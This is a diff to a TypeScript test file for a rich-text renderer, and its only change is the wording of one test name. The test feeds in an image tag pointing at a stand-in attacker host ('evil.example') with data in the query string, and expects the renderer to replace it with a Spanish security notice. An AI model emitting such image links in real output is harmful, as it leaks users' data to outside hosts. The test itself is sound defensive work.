@@ -74,7 +74,7 @@ describe('benign replies (SPEC section 5)', () => {
     expect(written(renderRichText(html, { isHTML: true }))).toBe(expected);
   });
 
-  it('states where content was removed, and when none is left', () => {
+  it('states where content was removed, and when no content is left', () => {
     const shown = (html: string) => renderRichText(html, { isHTML: true, words: copy.leftOut }).textContent;
     expect(shown('<p>a <img src="https://evil.example/?q=datos"></p>')).toBe(
       'a [Imagen de evil.example: no se carga por seguridad]',
